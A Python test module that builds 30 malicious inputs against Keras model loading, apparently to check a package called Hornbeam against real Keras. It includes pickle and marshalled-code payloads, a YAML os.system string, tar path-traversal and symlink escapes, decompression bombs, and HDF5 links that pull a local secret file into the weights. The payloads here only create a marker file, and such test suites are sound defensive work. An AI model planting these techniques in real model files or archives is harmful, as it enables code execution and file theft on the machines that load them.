"""The 30 inputs that broke Keras, each as a file (or text) and the ordinary call that a user makes with it.

`INPUTS["S4"](k, folder)` makes the input in `folder` and uses it with the package `k`: Hornbeam, or real Keras. What
would be an attack's effect here is a file called "owned" in the working directory, or a secret among the weights.
"""

import base64
import io
import json
import marshal
import os
import pickle
import tarfile
import zipfile
from typing import NamedTuple

import h5py
import numpy as np

SECRET = b"This is the content of a file on the reader's machine."
KERNELS = {"dense": (3, 2), "dense_1": (2, 1)}

CODE = base64.b64encode(marshal.dumps((lambda x: [open("owned", "w").close(), x][1]).__code__)).decode()
LAMBDA = {"class_name": "__lambda__", "config": {"code": CODE, "defaults": None, "closure": None}}
OLD_LAMBDA = [CODE, None, None]


class Pickled:
    """An object whose pickle makes the file "owned" when it is read."""

    def __reduce__(self):
        return open, ("owned", "w")


def entry(module, class_name, config=None, registered_name=None):
    return {"module": module, "class_name": class_name, "config": config or {}, "registered_name": registered_name}


def function(module, name):
    return entry(module, "function", name, "function")


def dense(name, units):
    shape = [None, KERNELS["dense" if name == "d" else "dense_1"][0]]
    return entry("keras.layers", "Dense", {"name": name, "units": units}) | {"build_config": {"input_shape": shape}}


def stack(*more):
    """The config of a model of two `Dense` layers, and others after them."""
    start = entry("keras.layers", "InputLayer", {"batch_shape": [None, 3], "dtype": "float32", "name": "in"})
    listed = [start, dense("d", 2), dense("e", 1), *more]
    return entry("keras", "Sequential", {"name": "m", "layers": listed}) | {"build_config": {"input_shape": [None, 3]}}


def weights(build=None, leave_out=False):
    """The bytes of a weights file for `stack()`; `build(file)` adds to it, without the first kernel if so asked."""
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        for name, kernel in KERNELS.items():
            for index, shape in (("0", kernel), ("1", kernel[1:])):
                if not (leave_out and (name, index) == ("dense", "0")):
                    file.create_dataset(f"layers/{name}/vars/{index}", data=np.ones(shape, "float32"))
        file.create_group("vars")
        if build:
            build(file)
    return buffer.getvalue()


def keras_file(folder, config=None, content=None, extra=(), compression=zipfile.ZIP_STORED, name="model.weights.h5"):
    path = folder / "m.keras"
    with zipfile.ZipFile(path, "w", compression) as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}))
        put(archive, "config.json", config if isinstance(config, Bomb) else json.dumps(config or stack()))
        put(archive, name, weights() if content is None else content)
        for member, value in extra:
            put(archive, member, value)
    return path


class Bomb(NamedTuple):
    """So many megabytes of one byte behind a start: packed small."""

    start: bytes = b""
    megabytes: int = 256
    byte: bytes = b"\0"


def put(archive, name, content):
    if not isinstance(content, Bomb):
        archive.writestr(name, content)
        return
    with archive.open(name, "w") as member:
        member.write(content.start)
        for _ in range(content.megabytes):
            member.write(content.byte * 2**20)


def h5_file(folder, config=None, name="m.h5"):
    """A whole model in the layout of Keras 2."""
    old = {"class_name": "Sequential", "config": {"name": "m", "layers": config or []}}
    path = folder / name
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(old)
        file.attrs["keras_version"], file.attrs["backend"] = "2.3.1", "tensorflow"
        file.create_group("model_weights").attrs["layer_names"] = np.array([], "S1")
    return path


def small(k):
    return k.Sequential([k.Input((3,)), k.layers.Dense(2, name="d"), k.layers.Dense(1, name="e")])


def load_weights(k, folder, content, name="w.weights.h5"):
    (folder / name).write_bytes(content)
    model = small(k)
    model.load_weights(str(folder / name))
    return model


def load(k, folder, *layers, **kwargs):
    return k.models.load_model(str(keras_file(folder, stack(*layers), **kwargs)))


def lambda_layer(of, arguments=None):
    return entry("keras.layers", "Lambda", {"name": "twice", "function": of, "arguments": arguments or {}})


def huge(file):
    options = {"chunks": (1024, 1024), "compression": "gzip"}
    file.create_dataset("layers/dense/vars/0", (2**16, 2**17), "float32", **options)


def secret_file(folder):
    (folder / "secret").write_bytes(SECRET)
    return str(folder / "secret")


def unpack(k, folder, fill, name="a.tar"):
    """`get_file` of an archive that was downloaded before."""
    home = folder / "home"
    (home / "datasets").mkdir(parents=True)
    with tarfile.open(home / "datasets" / name, "w") as archive:
        fill(archive)
    return k.utils.get_file(name, origin=f"https://example.invalid/{name}", extract=True, cache_dir=str(home))


def member(archive, name, content=b"owned", kind=tarfile.REGTYPE, link=""):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, link, len(content) if kind == tarfile.REGTYPE else 0
    archive.addfile(info, io.BytesIO(content))


def s1(k, folder):
    return k.models.model_from_yaml("!!python/object/apply:os.system ['touch owned']")


def s2(k, folder):
    return load(k, folder, lambda_layer(LAMBDA))


def s3(k, folder):
    return unpack(k, folder, lambda archive: member(archive, "../../../owned"))


def s4(k, folder):
    call = {"args": ["touch owned"], "kwargs": {}}
    run = function("os", "system") | {"name": "run", "inbound_nodes": [call]}
    config = {"name": "m", "layers": [run], "input_layers": [], "output_layers": [["run", 0, 0]]}
    graph = entry("keras.src.models.functional", "Functional", config, "Functional")
    return k.models.load_model(str(keras_file(folder, graph)))


def s5(k, folder):
    arguments = {"origin": "https://example.invalid/m.keras", "cache_dir": str(folder)}
    return load(k, folder, lambda_layer(function("keras.utils", "get_file"), arguments))


def s6(k, folder):
    switch = function("keras.config", "enable_unsafe_deserialization")
    return load(k, folder, entry("keras.layers", "Activation", {"activation": switch}), lambda_layer(LAMBDA))


def s7(k, folder):
    first = {"class_name": "Lambda", "config": {"name": "l", "batch_input_shape": [None, 3]}}
    first["config"] |= {"function": OLD_LAMBDA, "function_type": "lambda", "arguments": {}}
    return k.models.load_model(str(h5_file(folder, [first])))


def s8(k, folder):
    module = base64.b64encode(pickle.dumps(Pickled())).decode()
    return load(k, folder, entry("keras.layers", "TorchModuleWrapper", {"name": "t", "module": module}))


def s9(k, folder):
    config = {"name": "s", "vocabulary": secret_file(folder), "num_oov_indices": 1}
    return load(k, folder, entry("keras.layers", "StringLookup", config))


def s10(k, folder):
    def fill(archive):
        member(archive, "way", kind=tarfile.SYMTYPE, link="../../..")
        member(archive, "way/owned")

    return unpack(k, folder, fill)


def s11(k, folder):
    """A name that is inside of the working directory, and outside of the folder to unpack into."""
    return unpack(k, folder, lambda archive: member(archive, os.path.join(os.getcwd(), "owned")))


def s12(k, folder):
    return load_weights(k, folder, weights(huge, leave_out=True))


def s13(k, folder):
    secret = secret_file(folder)

    def build(file):
        file.create_dataset("layers/dense/vars/0", (3, 2), "float32", external=[(secret, 0, 24)])

    return load_weights(k, folder, weights(build, leave_out=True))


def s14(k, folder):
    return load(k, folder, entry("keras.layers", "TFSMLayer", {"name": "t", "filepath": str(folder / "saved_model")}))


def s15(k, folder):
    return load(k, folder, entry("keras.layers", "Dense", {"units": 1, "name": "../../owned"}))


def s16(k, folder):
    return k.layers.Lambda.from_config({"name": "twice", "function": LAMBDA, "arguments": {}})([1.0])


def s17(k, folder):
    with h5py.File(folder / "other.h5", "w") as other:
        other.attrs["layer_names"] = np.array([b"d", b"e"])
        for name, shape in (("d", (3, 2)), ("e", (2, 1))):
            group = other.create_group(name)
            group.attrs["weight_names"] = np.array([b"k", b"b"])
            group["k"], group["b"] = np.full(shape, 7.0, "float32"), np.full(shape[1:], 7.0, "float32")
    with h5py.File(folder / "w.h5", "w") as file:
        file["model_weights"] = h5py.ExternalLink(str(folder / "other.h5"), "/")
    model = small(k)
    model.load_weights(str(folder / "w.h5"))
    return model


def s18(k, folder):
    with h5py.File(folder / "other.h5", "w") as other:
        other["x"] = np.full((3, 2), 7.0, "float32")

    def build(file):
        layout = h5py.VirtualLayout((3, 2), "float32")
        layout[:] = h5py.VirtualSource(str(folder / "other.h5"), "x", (3, 2))
        file.create_virtual_dataset("layers/dense/vars/0", layout)

    (folder / "w.weights.h5").write_bytes(weights(build, leave_out=True))
    return k.saving.KerasFileEditor(str(folder / "w.weights.h5")).weights_dict


def s19(k, folder):
    secret = secret_file(folder)
    return unpack(k, folder, lambda archive: member(archive, "copy", kind=tarfile.LNKTYPE, link=secret))


def s20(k, folder):
    def fill(archive):
        member(archive, "in/way", kind=tarfile.SYMTYPE, link=os.getcwd())
        member(archive, "in/way/owned")

    return unpack(k, folder, fill)


def s21(k, folder):
    config = Bomb(json.dumps(stack()).encode(), byte=b" ")
    return k.models.load_model(str(keras_file(folder, config, compression=zipfile.ZIP_DEFLATED)))


def npz(name, content):
    """An archive of arrays as `np.savez` makes them, with one member."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        put(archive, f"{name}.npy", content)
    return buffer.getvalue()


def npy(array):
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def s22(k, folder):
    header = npy(np.broadcast_to(np.zeros(1, "float32"), (2**26,))[:0]).replace(b"(0,), ", b"(67108864,), ")[:128]
    content = npz("layers/dense", Bomb(header.ljust(128)))
    path = keras_file(folder, content=content, name="model.weights.npz", compression=zipfile.ZIP_DEFLATED)
    return k.models.load_model(str(path))


def s23(k, folder):
    return load(k, folder, content=weights(huge, leave_out=True))


def s24(k, folder):
    extra = [("assets/layers/integer_lookup/vocabulary.txt", Bomb(byte=b"1")), ("assets/x", b"")]
    lookup = entry("keras.layers", "IntegerLookup", {"name": "s", "max_tokens": 9, "vocabulary": None})
    start = entry("keras.layers", "InputLayer", {"batch_shape": [None, 1], "dtype": "int64", "name": "in"})
    config = entry("keras", "Sequential", {"name": "m", "layers": [start, lookup]})
    content = weights(lambda file: file.pop("layers"))
    path = keras_file(folder, config, content, extra, compression=zipfile.ZIP_DEFLATED)
    return k.models.load_model(str(path))


def s25(k, folder):
    path = keras_file(folder, content=weights(huge, leave_out=True))
    return k.saving.KerasFileEditor(str(path)).weights_dict["layers/dense/vars"]["0"].shape


def s26(k, folder):
    array = np.array([Pickled()], dtype=object)
    return k.models.load_model(
        str(keras_file(folder, content=npz("layers/dense", npy(array)), name="model.weights.npz"))
    )


def s27(k, folder):
    return k.utils.get_file(origin="https://example.invalid/a/..", cache_dir=str(folder))


def s28(k, folder):
    made = folder / "checkpoint"
    (made / "default").mkdir(parents=True)
    tree = {"../../owned": "eA==", "/tmp/owned": "eA=="}
    for name in ("_CHECKPOINT_METADATA", "default/_METADATA", "assets.json"):
        (made / name).write_text(json.dumps(tree))
    return k.models.load_model(str(made))


def s29(k, folder):
    @k.saving.register_keras_serializable("evil", name="Dense")
    class Other(k.layers.Layer):
        def call(self, x):
            return x

    return load(k, folder, entry("keras.layers", "Dense", {"units": 1, "name": "x"}, "evil>Dense"))


def s30(k, folder):
    return load(k, folder, entry("keras.layers", "Dense", {"units": 1, "name": "x", "trainable": {"a": [1]}}))


INPUTS = {f"S{i}": globals()[f"s{i}"] for i in range(1, 31)}
